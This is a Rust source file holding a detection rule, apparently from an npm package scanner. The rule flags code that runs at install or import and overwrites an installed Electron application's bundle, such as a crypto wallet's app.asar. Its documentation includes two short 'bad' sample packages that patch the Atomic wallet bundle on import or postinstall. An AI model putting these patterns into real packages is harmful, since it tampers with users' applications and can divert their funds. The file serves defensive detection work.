//! # An installed application is changed
//!
//! Code that runs at install or import writes into the folder of a desktop application.
//!
//! ## Why it matters
//!
//! Wallets, messengers and editors built on Electron run whatever their bundle holds. A changed wallet pays
//! somebody else, and stays changed when the package is gone.
//!
//! ## Known benign uses
//!
//! Modding tools patch an application when a person runs their command.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), path = require("path");
//! const bundle = path.join(process.env.LOCALAPPDATA, "Programs", "atomic", "resources", "app.asar");
//! if (fs.existsSync(bundle)) fs.writeFileSync(bundle, fs.readFileSync(bundle, "latin1").replace("to:a", "to:b"), "latin1"); //~ here
//! exports.x = 1;
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node a.js"}}
//! == a.js
//! const asar = require("@electron/asar");
//! asar.createPackage("/tmp/work", "/Applications/Atomic Wallet.app/Contents/Resources/app.asar"); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const asar = require("@electron/asar"), path = require("path");
//! exports.pack = (out) => asar.createPackage("dist", path.join(out, "resources", "app.asar"));
//! ```
//!
//! ## References
//!
//! - ReversingLabs: Atomic and Exodus wallets patched from npm (April 2025)

use crate::prelude::*;

/// An installed application is changed.
pub struct InstalledApplicationPatched;

impl Rule for InstalledApplicationPatched {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "installed-application-patched",
            title: "An installed application is changed",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1554",
            covers: &["patch-installed-apps"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for change in
            facts.file_changes().filter(|change| change.is_write() && change.trigger().runs_unasked())
        {
            let is_bundle = change.path.ends_with(".asar") && change.path.starts_with(['~', '/']);
            if (change.class() == FileClass::Application || is_bundle) && change.own_path().is_none() {
                found.call(change.call, "changes an installed application");
            }
        }
    }
}
